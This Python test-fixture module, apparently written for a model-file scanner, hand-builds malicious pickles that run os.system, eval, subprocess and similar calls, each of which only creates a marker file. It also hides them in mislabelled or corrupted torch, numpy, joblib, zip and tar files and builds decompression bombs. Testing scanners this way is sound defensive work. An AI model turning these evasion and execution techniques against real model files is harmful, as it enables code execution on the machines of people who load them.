"""Files that hostile people write: made as bytes by hand, and never loaded.

Each would create the file named by the environment variable MARKER if something ran it.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable

SHELL = b"touch $MARKER"
PYTHON = b"open(__import__('os').environ['MARKER'],'w')"


def text(value: bytes | str) -> bytes:
    """SHORT_BINUNICODE."""
    encoded = value.encode() if isinstance(value, str) else value
    return b"\x8c" + bytes([len(encoded)]) + encoded


def call(module: str, name: str, *arguments: bytes, protocol: int = 4) -> bytes:
    """A pickle that calls something, with arguments that are opcodes already."""
    given = b"(" + b"".join(arguments) + b"t"
    head = b"\x80" + bytes([protocol])
    if protocol >= 4:
        return head + text(module) + text(name) + b"\x93" + given + b"R."
    return head + b"c" + module.encode() + b"\n" + name.encode() + b"\n" + given + b"R."


SYSTEM = call("os", "system", text(SHELL))
"""The plainest one."""


def zipped(
    entries: dict[str, bytes], method: int = zipfile.ZIP_STORED, prefix: bytes = b""
) -> bytes:
    stream = io.BytesIO(prefix)
    stream.seek(0, 2)
    with zipfile.ZipFile(stream, "w", method) as archive:
        for name, content in entries.items():
            archive.writestr(zipfile.ZipInfo(name), content, method)
    return stream.getvalue()


def tarred(entries: dict[str, bytes]) -> bytes:
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w") as archive:
        for name, content in entries.items():
            info = tarfile.TarInfo(name)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return stream.getvalue()


def npy(content: bytes, descr: str = "'|O'") -> bytes:
    header = f"{{'descr': {descr}, 'fortran_order': False, 'shape': (1,), }}\n".encode()
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + content


def joblib_array(
    data: bytes,
    *,
    size: int,
    alignment: bool,
    code: bytes = b"u1",
    rest: bytes = b".",
    memo: bytes = b"",
) -> bytes:
    """What joblib writes for an array of bytes, with any bytes as its data."""
    dtype = (
        text("numpy") + text("dtype") + b"\x93" + text(code) + b"\x89\x88\x87R"
        b"(K\x03" + text("|") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb"
    )
    state = (
        text("subclass") + text("numpy") + text("ndarray") + b"\x93"
        + text("shape") + b"J" + struct.pack("<i", size) + b"\x85"
        + text("order") + text("C") + text("dtype") + dtype + text("allow_mmap") + b"\x88"
    )  # fmt: skip
    if alignment:
        state += text("numpy_array_alignment_bytes") + b"K\x10"
    wrapper = text("joblib.numpy_pickle") + text("NumpyArrayWrapper") + b"\x93)\x81"
    padding = b"\x01\xff" if alignment else b""
    return b"\x80\x04" + memo + wrapper + b"}(" + state + b"ub" + padding + data + rest


def _torch(content: bytes, name: str = "archive/data.pkl") -> bytes:
    return zipped({name: content, "archive/data/0": b"\0" * 64, "archive/version": b"3\n"})


def _bad_checksum() -> bytes:
    """PyTorch reads an entry whose checksum is wrong; zipfile does not."""
    content = bytearray(_torch(SYSTEM))
    for magic, offset in ((b"PK\x03\x04", 14), (b"PK\x01\x02", 16)):
        at = content.index(magic) + offset
        content[at : at + 4] = b"\1\2\3\4"
    return bytes(content)


def _bad_flag() -> bytes:
    """An entry that claims to be encrypted and is not."""
    content = bytearray(_torch(SYSTEM))
    for magic, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        content[content.index(magic) + offset] |= 1
    return bytes(content)


def _other_name() -> bytes:
    content = bytearray(_torch(SYSTEM))
    at = content.index(b"archive/data.pkl")
    content[at : at + 7] = b"brchive"
    return bytes(content)


def _polyglot() -> bytes:
    """An array to joblib; to pickle.load, opcodes."""
    program = b"cos\nsystem\n(" + text(SHELL) + b"tR."
    return joblib_array(program, size=len(program), alignment=False)


def _padded_polyglot() -> bytes:
    program = b"os\nsystem\n(" + text(SHELL) + b"tR."
    return joblib_array(b"", size=0, alignment=False, rest=b"c" + program)


def _swallowed() -> bytes:
    """The array is smaller than it says to who believes the type code alone."""
    hidden = b"cos\nsystem\n(" + text(SHELL) + b"tR."
    return joblib_array(b"x" * 4, size=4, alignment=True, rest=hidden)


_PICKLE_IN_BYTES = b"C" + bytes([len(SYSTEM)]) + SYSTEM
_OS = b"cos\nsystem\n"
_ARGUMENTS = b"(S'" + SHELL + b"'\n"

CALLS: dict[str, bytes] = {
    "global": call("os", "system", text(SHELL), protocol=2),
    "global posix": call("posix", "system", text(SHELL), protocol=0),
    "no header": _OS + _ARGUMENTS + b"tR.",
    "stack global": SYSTEM,
    "memoised names": b"\x80\x04" + text("os") + b"\x94" + text("system") + b"\x940h\x00h\x01\x93"
    + b"(" + text(SHELL) + b"tR.",
    "memoised out of order": b"\x80\x04" + text("os") + b"q\x07" + text("system") + b"q\x030"
    + b"0h\x07h\x03\x93(" + text(SHELL) + b"tR.",
    "inst": b"(S'" + SHELL + b"'\nios\nsystem\n.",
    "obj": b"(" + _OS + b"S'" + SHELL + b"'\no.",
    "newobj": b"\x80\x02" + _OS + b"S'" + SHELL + b"'\n\x85\x81.",
    "newobj_ex": b"\x80\x04" + text("os") + text("system") + b"\x93" + text(SHELL) + b"\x85}\x92.",
    "eval": call("builtins", "eval", text(PYTHON)),
    "exec": call("builtins", "exec", text(PYTHON)),
    "python 2 names": call("__builtin__", "eval", text(PYTHON), protocol=2),
    "python 2 commands": call("commands", "getoutput", text(SHELL), protocol=2),
    "import": call("builtins", "__import__", text("os")),
    "getattr": call("builtins", "getattr", text("x"), text("y")),
    "compile": call("builtins", "compile", text(PYTHON), text("x"), text("exec")),
    "open": call("builtins", "open", text("x"), text("w")),
    "attrgetter": call("operator", "attrgetter", text("system")),
    "methodcaller": call("_operator", "methodcaller", text("system")),
    "runpy": call("runpy", "run_path", text("x.py")),
    "pydoc": call("pydoc", "pipepager", text("x"), text(SHELL)),
    "pydoc.locate": call("pydoc", "locate", text("os.system")),
    "timeit": call("timeit", "timeit", text(PYTHON)),
    "partial": call("functools", "partial", text("x")),
    "subprocess": call("subprocess", "Popen", text(SHELL)),
    "webbrowser": call("webbrowser", "open", text("http://example.org")),
    "ctypes": call("ctypes", "CDLL", text("x.so")),
    "code": call("code", "interact"),
    "types": call("types", "FunctionType"),
    "marshal": call("marshal", "loads", b"C\x01N"),
    "pickle in bytes": call("pickle", "loads", _PICKLE_IN_BYTES),
    "_pickle in bytes": call("_pickle", "loads", _PICKLE_IN_BYTES),
    "dill": call("dill._dill", "_create_function"),
    "cloudpickle": call("cloudpickle.cloudpickle", "_make_function"),
    "cloudpickle 1": call("cloudpickle.cloudpickle", "_builtin_type", text("CodeType")),
    "pandas": call("pandas.io.pickle", "read_pickle", text("x.pkl")),
    "pandas short": call("pandas", "read_pickle", text("x.pkl")),
    "pandas eval": call("pandas.core.computation.eval", "eval", text("1")),
    "joblib": call("joblib.numpy_pickle", "load", text("x.pkl")),
    "joblib memory": call("joblib", "load", text("x.pkl")),
    "numpy load": call("numpy", "load", text("x.npy")),
    "numpy testing": call("numpy.testing._private.utils", "runstring", text(PYTHON), b"}"),
    "numpy f2py": call("numpy.f2py.crackfortran", "getlincoef", text(PYTHON), b"}"),
    "numpy ufunc": call("numpy.core", "_ufunc_reconstruct", text("os"), text("system")),
    "numpy memmap": call("numpy", "memmap", text("x"), text("u1"), text("w+")),
    "scipy distribution": b"\x80\x04" + text("scipy.stats._continuous_distns")
    + text("uniform_gen") + b"\x93)\x81}" + text("_parse_arg_template") + text(PYTHON) + b"sb.",
    "sklearn testing": call("sklearn.utils._testing", "check_skip_network"),
    "sklearn dataset": call("sklearn.datasets._base", "load_files", text("/")),
    "sklearn parallel": call("sklearn.utils.parallel", "Parallel"),
    "sklearn memory": call("sklearn.pipeline", "Memory", text("/tmp/x")),
    "torch load": call("torch.serialization", "load", text("x.pt")),
    "torch hub": call("torch.hub", "load", text("x/y")),
    "torch whole model": call("torch.nn.modules.linear", "Linear"),
    "dotted name": call("numpy", "f2py.os.system", text(SHELL)),
    "dotted class": call("sklearn.ensemble._forest", "threading.Thread"),
    "own module": call("__main__", "Model"),
    "extension code": b"\x80\x02\x82\x05)R.",
    "computed name": b"\x80\x04" + text("builtins") + text("str") + b"\x93(" + text("os")
    + b"tR" + text("system") + b"\x93(" + text(SHELL) + b"tR.",
    "persistent id": b"\x80\x02K\x01Q0" + _OS + _ARGUMENTS + b"tR.",
    "persistent id in text": b"Px\n0" + _OS + _ARGUMENTS + b"tR.",
    "behind much data": b"\x80\x04" + b"K\x010" * 1000 + SYSTEM[2:],
    "behind long text": b"\x80\x04\x8d" + struct.pack("<Q", 5_000_000) + b"x" * 5_000_000
    + b"0" + SYSTEM[2:],
    "deep memo": b"\x80\x04" + b"N\x94" * 70_000 + text("os") + b"\x94"
    + b"j" + struct.pack("<I", 70_000) + text("system") + b"\x93(" + text(SHELL) + b"tR.",
    "protocol in the middle": b"\x80\x02N0\x80\x04N0" + SYSTEM[2:],
    "second pickle": b"\x80\x04N." + SYSTEM,
    "second pickle without header": b"\x80\x04N." + _OS + _ARGUMENTS + b"tR.",
    "broken after the call": SYSTEM[:-1] + b"\xff\xff",
    "cut after the call": SYSTEM[:-1],
    "broken stack after the call": SYSTEM[:-1] + b"0000.",
}  # fmt: skip
"""Name -> pickle; each imports what no model needs."""

WRAPPED: dict[str, tuple[str, bytes]] = {
    "wrong suffix bin": ("model.bin", SYSTEM),
    "wrong suffix dat": ("model.dat", SYSTEM),
    "wrong suffix h5": ("model.h5", SYSTEM),
    "wrong suffix safetensors": ("model.safetensors", SYSTEM),
    "wrong suffix onnx": ("model.onnx", SYSTEM),
    "wrong suffix png": ("plot.png", SYSTEM),
    "no suffix": ("model", SYSTEM),
    "text suffix, no header": ("notes.txt", CALLS["no header"]),
    "broken, wrong suffix": ("model.dat", CALLS["cut after the call"]),
    "npy": ("a.npy", npy(SYSTEM)),
    "npy with fields": ("a.npy", npy(SYSTEM, "[('a', '<f8'), ('b', '|O')]")),
    "pickle named npy": ("a.npy", SYSTEM),
    "npz": ("a.npz", zipped({"a.npy": npy(SYSTEM)})),
    "npz deflated": ("a.npz", zipped({"a.npy": npy(SYSTEM)}, zipfile.ZIP_DEFLATED)),
    "torch": ("model.pt", _torch(SYSTEM)),
    "torch of another name": ("model.pt", _torch(SYSTEM, "archive/weights.txt")),
    "torch with a wrong checksum": ("model.pt", _bad_checksum()),
    "torch with a wrong flag": ("model.pt", _bad_flag()),
    "torch with two names": ("model.pt", _other_name()),
    "zip of any name": ("data.zip", zipped({"readme": b"x", "x/y": SYSTEM})),
    "zip by bzip2": ("data.zip", zipped({"y": SYSTEM}, zipfile.ZIP_BZIP2)),
    "zip in zip in tar.gz": (
        "data.tar.gz",
        gzip.compress(tarred({"b.zip": zipped({"a.zip": zipped({"x": SYSTEM})})})),
    ),
    "tar": ("model.tar", tarred({"x": b"text", "y": SYSTEM})),
    "gzip": ("model.pkl.gz", gzip.compress(SYSTEM)),
    "second gzip member": ("model.gz", gzip.compress(b"\x80\x04N.") + gzip.compress(SYSTEM)),
    "zlib": ("model.joblib", zlib.compress(SYSTEM)),
    "bzip2": ("model.joblib", bz2.compress(SYSTEM)),
    "xz": ("model.joblib", lzma.compress(SYSTEM)),
    "lzma": ("model.joblib", lzma.compress(SYSTEM, lzma.FORMAT_ALONE)),
    "skops with a pickle": ("model.skops", zipped({"schema.json": b"{}", "x": SYSTEM})),
    "after an array of joblib": ("model.joblib", _swallowed()),
    "opcodes in an array of joblib": ("model.joblib", _polyglot()),
    "opcodes behind an array of joblib": ("model.joblib", _padded_polyglot()),
    "in an array of objects": (
        "model.joblib",
        joblib_array(b"", size=1, alignment=True)
        .replace(b"u1", b"O8")
        .replace(b"\xff\xff\xff\xffK\x00tb", b"\xff\xff\xff\xffK?tb")[:-3]
        + SYSTEM
        + b".",
    ),
    "pickle and archive at once": ("model.pkl", tarred({CALLS["no header"].decode(): b"x"})),
}
"""Name -> file name and content of files that hold such a pickle somewhere."""


def overlapping() -> bytes:
    """A ZIP archive whose entries are all the same megabytes of zeros."""
    packed = zlib.compressobj(9, zlib.DEFLATED, -15)
    zeros = b"\x80\x04B" + struct.pack("<I", 1 << 30)
    body = packed.compress(zeros + b"\0" * (64 << 20)) + packed.flush()
    local = b"PK\x03\x04" + struct.pack("<5H3I2H", 20, 0, 8, 0, 0, 0, len(body), 1 << 26, 1, 0)
    stream = local + b"x" + body
    directory = b"".join(
        b"PK\x01\x02"
        + struct.pack("<6H3I5H2I", 20, 20, 0, 8, 0, 0, 0, len(body), 1 << 26, 9, 0, 0, 0, 0, 0, 0)
        + b"m%04d.pkl" % number
        for number in range(60)
    )
    end = b"PK\x05\x06" + struct.pack("<4H2IH", 0, 0, 60, 60, len(directory), len(stream), 0)
    return stream + directory + end


def _bomb(compress: Callable[[bytes], bytes]) -> bytes:
    """A pickle of a gibibyte of zeros, packed into a few kilobytes or megabytes."""
    size = 1 << 30
    return compress(b"\x80\x04B" + struct.pack("<I", size) + b"\0" * (size >> 4) + b".")


def _gzip_bomb() -> bytes:
    """A pickle of three gibibytes of zeros, packed twice into a few kilobytes."""
    packed = zlib.compressobj(9, zlib.DEFLATED, 31)
    head = packed.compress(b"\x80\x04\x8e" + struct.pack("<Q", 3 << 30))
    head += packed.flush(zlib.Z_FULL_FLUSH)
    zeros = packed.compress(b"\0" * (1 << 24)) + packed.flush(zlib.Z_FULL_FLUSH)
    return gzip.compress(head + zeros * 192)


BOMBS: dict[str, tuple[str, Callable[[], bytes]]] = {
    "gzip of 3 GiB": ("model.pkl.gz", _gzip_bomb),
    "zlib": ("model.joblib", lambda: _bomb(lambda data: zlib.compress(data, 9))),
    "bzip2": ("model.joblib", lambda: _bomb(bz2.compress)),
    "xz": ("model.joblib", lambda: _bomb(lambda data: lzma.compress(data, preset=0))),
    "overlapping entries": ("model.zip", overlapping),
    "many entries": (
        "model.zip", lambda: zipped({f"{number}": b"" for number in range(60_000)})
    ),
    "length of 2^60": (
        "model.pkl", lambda: b"\x80\x04\x8d" + struct.pack("<Q", 1 << 60) + b"x" * 100
    ),
    "long line": ("model.pkl", lambda: b"S'" + b"x" * (64 << 20) + b"'\n."),
    "deep stack": ("model.pkl", lambda: b"\x80\x04" + b"N" * 3_000_000 + b"."),
    "deep lists": ("model.pkl", lambda: b"\x80\x04" + b"]" * 400_000 + b"a" * 399_999 + b"."),
    "large memo": (
        "model.pkl",
        lambda: b"\x80\x04" + b"".join(text(f"{n:0100}") + b"\x940" for n in range(900_000))
        + b"N.",
    ),
    "sparse memo": (
        "model.pkl",
        lambda: b"\x80\x04N"
        + b"".join(b"r" + struct.pack("<I", n * 2) for n in range(700_000)) + b".",
    ),
    "tar of many": ("model.tar", lambda: tarred({"x": b""})[:512] * 100_000),
    "nested": ("model.gz", lambda: _nested(12)),
}  # fmt: skip
"""Name -> file name and what makes the content of a file that is to exhaust its reader."""


def _nested(depth: int) -> bytes:
    content = SYSTEM
    for _ in range(depth):
        content = gzip.compress(content)
    return content
